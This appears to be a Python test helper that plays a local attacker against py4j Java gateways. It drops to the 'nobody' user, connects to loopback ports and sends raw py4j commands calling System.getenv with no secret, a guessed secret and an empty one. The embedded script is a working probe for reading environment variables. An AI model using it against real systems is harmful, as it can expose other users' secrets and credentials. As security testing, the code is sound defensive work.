"""Another user of the machine, who may open its loopback ports and read what everybody may read."""

from __future__ import annotations

import json
import subprocess
import sys
from collections.abc import Sequence

__all__ = ["NOBODY", "ask_for_variable"]

NOBODY = 65534
"""Number of a user that owns nothing; the attacker is this one where the tests run as root, and else their own user."""

# Reads ports and a variable's name, and sends py4j's `java.lang.System.getenv(...)` to each: at once, behind a guessed secret, and behind none.
_ASK = """
import encodings.idna, json, os, socket, sys
if os.getuid() == 0:
    os.setgroups([]); os.setgid({nobody}); os.setuid({nobody})
ports, variable, answers = *json.load(sys.stdin), []
call = b"c\\nz:java.lang.System\\ngetenv\\ns" + variable.encode() + b"\\ne\\n"
for port in ports:
    answer = b""
    for hello in (b"", b"A\\nguess\\ne\\n", b"A\\n\\ne\\n"):
        try:
            with socket.create_connection(("127.0.0.1", port), timeout=3) as link:
                link.sendall(hello + call)
                while piece := link.recv(4096):
                    answer += piece
        except OSError:
            pass
    answers.append(answer.decode("utf-8", "replace"))
print(json.dumps(answers))
"""


def ask_for_variable(ports: Sequence[int], variable: str) -> list[str]:
    """What ports of this machine answer another user who asks a JVM for a variable of its environment, without a secret.

    Args:
        ports: to ask, each three times; one that is silent takes three seconds a time.
        variable: name of the variable.
    """
    program = [sys.executable, "-I", "-c", _ASK.replace("{nobody}", str(NOBODY))]
    done = subprocess.run(
        program, input=json.dumps([list(ports), variable]), capture_output=True, text=True, check=True, timeout=60 + 9 * len(ports), cwd="/",
    )
    return list(json.loads(done.stdout))
